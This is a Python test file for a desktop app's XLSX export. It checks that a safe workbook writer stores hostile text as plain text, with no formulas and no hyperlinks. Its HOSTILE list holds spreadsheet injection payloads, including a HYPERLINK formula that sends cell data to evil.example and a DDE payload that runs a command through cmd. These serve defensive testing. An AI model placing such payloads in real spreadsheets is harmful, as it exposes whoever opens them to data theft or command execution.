"""Issue 11 case 8: every XLSX the app writes goes through the one safe writer; a scan of every
written workbook finds no formula cell and no hyperlink, whatever the text was."""

from __future__ import annotations

import ast
import re
import zipfile
from pathlib import Path

import pytest
from builders import make_file
from sqlalchemy import insert

from kh06_desktop.cli import main
from kh06_desktop.exchange.xlsx_writer import SafeWorkbook
from kh06_desktop.services.exchange.consolidation import consolidate_files
from kh06_desktop.store.database import open_database
from kh06_desktop.store.models import Member
from tests.protect.protect_helpers import member_rows

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0", "+SUM(1,2)",
           "@SUM(1)", "-2+3", "http://evil.example/x", "mailto:a@b.c", "=1+1"]
PACKAGE = Path(__file__).resolve().parents[2] / "kh06_desktop"


def scan(path: Path) -> str:
    """Every worksheet's XML of the workbook, after checking it has no formula and no hyperlink."""
    texts = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            body = archive.read(name).decode("utf-8")
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not re.search(r"<(\w+:)?f[\s>/]", body), f"formula cell in {name}"
                assert "<hyperlink" not in body, f"hyperlink in {name}"
            if name.endswith(".rels"):
                assert "relationships/hyperlink" not in body, f"hyperlink relation in {name}"
            texts.append(body)
    return "".join(texts)


def test_the_consolidated_xlsx_keeps_hostile_unit_names_as_text(tmp_path) -> None:
    upper = open_database(tmp_path / "upper.db")
    try:
        files = [(f"u{i}.kh06", make_file(f"U{i}", name=name)) for i, name in enumerate(HOSTILE)]
        assert consolidate_files(upper, files).exit_code == 0
    finally:
        upper.close()
    out = tmp_path / "tong-hop.xlsx"
    assert main(["consolidated-report", "--db", str(tmp_path / "upper.db"), "--period", "2025",
                 "--out", str(out)]) == 0
    content = scan(out)
    assert "=cmd|' /C calc'!A0".replace("'", "&apos;") in content or "=cmd|' /C calc'!A0" in content
    assert "http://evil.example/x" in content


def test_the_member_export_keeps_hostile_names_as_text(db, unit, tmp_path) -> None:
    rows = member_rows(unit.id, len(HOSTILE))
    for row, name in zip(rows, HOSTILE, strict=True):
        row["full_name"] = name
        row["phone"] = "=1+2"
    with db.transaction() as session:
        session.execute(insert(Member), rows)
    out = tmp_path / "ds.xlsx"
    assert main(["export-members", "--db", str(db.path), "--out", str(out)]) == 0
    content = scan(out)
    assert "http://evil.example/x" in content


def test_the_safe_writer_has_no_way_to_write_a_formula_or_a_link(tmp_path) -> None:
    path = tmp_path / "x.xlsx"
    with SafeWorkbook(path) as book:
        sheet = book.add_sheet("S")
        for row, value in enumerate(HOSTILE):
            sheet.text(row, 0, value)
        sheet.number(0, 1, 3)
        with pytest.raises(AttributeError):
            sheet.write(0, 2, "=1+1")  # type: ignore[attr-defined]
        with pytest.raises(AttributeError):
            sheet.write_formula(0, 2, "=1+1")  # type: ignore[attr-defined]
        with pytest.raises(AttributeError):
            sheet.write_url(0, 2, "http://evil.example/")  # type: ignore[attr-defined]
        with pytest.raises(ValueError):
            sheet.number(0, 3, float("nan"))
    scan(path)


def test_only_the_safe_writer_imports_xlsxwriter() -> None:
    users = []
    for source in PACKAGE.rglob("*.py"):
        tree = ast.parse(source.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            names = ([alias.name for alias in node.names] if isinstance(node, ast.Import)
                     else [node.module or ""] if isinstance(node, ast.ImportFrom) else [])
            if any(name.split(".")[0] in ("xlsxwriter", "openpyxl") for name in names):
                users.append(source.relative_to(PACKAGE).as_posix())
    assert sorted(set(users)) == ["exchange/xlsx_writer.py"]
